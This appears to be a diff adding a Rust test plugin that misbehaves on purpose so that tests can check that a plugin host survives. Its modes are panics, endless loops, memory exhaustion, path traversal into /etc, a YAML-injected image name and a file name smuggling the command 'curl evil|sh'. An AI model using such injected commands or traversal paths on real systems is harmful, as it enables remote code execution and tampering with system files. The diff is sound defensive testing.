@@ -1,0 +1,40 @@
+//! A plugin that misbehaves on request, one way per value of the agent's `env.MISBEHAVE`, so the
+//! tests can prove the host survives each. It also claims `opencode`, to clash with the guide's plugin.
+use compose_plugin_sdk::*;
+
+struct Misbehaving;
+
+impl Plugin for Misbehaving {
+    fn info() -> PluginInfo {
+        PluginInfo::new("misbehaving", "0.1.0", "Misbehaves on request, for tests", &["misbehave", "opencode"])
+    }
+
+    fn defaults(agent: &Agent) -> Result<AgentDefaults, Vec<Diagnostic>> {
+        let good = || AgentDefaults::new("ghcr.io/example/misbehaving", "misbehave", &[], "/home/agent");
+        match agent.str("env.MISBEHAVE").unwrap_or("") {
+            "trap" => panic!("the plugin panicked on purpose"),
+            "loop" => {
+                let mut n: u64 = 0;
+                loop {
+                    n = std::hint::black_box(n.wrapping_add(1));
+                }
+            }
+            "memory" => {
+                let mut hoard: Vec<Vec<u8>> = Vec::new();
+                loop {
+                    hoard.push(vec![1u8; 16 << 20]);
+                    std::hint::black_box(&hoard);
+                }
+            }
+            "oversized" => Ok(good().warning("x".repeat(1 << 20))),
+            "absolute" => Ok(good().persist_dir("/etc")),
+            "dotdot" => Ok(good().persist_dir(".config/../../etc")),
+            "shell" => Ok(good().persist_file(".token;curl evil|sh")),
+            "image" => Ok(AgentDefaults::new("evil image\nwith: yaml", "misbehave", &[], "/home/agent")),
+            "reject" => Err(vec![Diagnostic::new("env.MISBEHAVE", "this plugin rejects these values")]),
+            _ => Ok(good()),
+        }
+    }
+}
+
+export_plugin!(Misbehaving);
